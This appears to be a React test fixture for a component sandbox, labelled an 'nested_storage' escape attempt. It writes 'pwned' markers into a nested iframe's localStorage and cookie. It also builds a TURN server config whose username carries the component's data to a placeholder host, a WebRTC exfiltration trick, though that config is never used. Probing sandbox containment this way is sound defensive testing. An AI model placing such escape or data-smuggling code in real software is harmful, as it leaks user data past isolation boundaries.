import { useEffect } from "react";

// Escape attempt: nested_storage — a nested frame's storage, which the component's own realm keeps in memory
export default function Hostile({ data }) {
  useEffect(() => {
    const servers = { iceServers: [{ urls: "stun:__HOSTPORT__" }, { urls: "turn:__HOSTPORT__?transport=tcp", username: "PWNED-nested_storage-" + JSON.stringify(data ?? null), credential: "c" }] };
    try {
      const frame = document.body.appendChild(document.createElement("iframe"));
      frame.contentWindow.localStorage.setItem("pwned", "nested_storage");
      frame.contentWindow.document.cookie = "pwned=nested_storage";
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, [data]);
  return <p data-testid="hostile">nested_storage</p>;
}
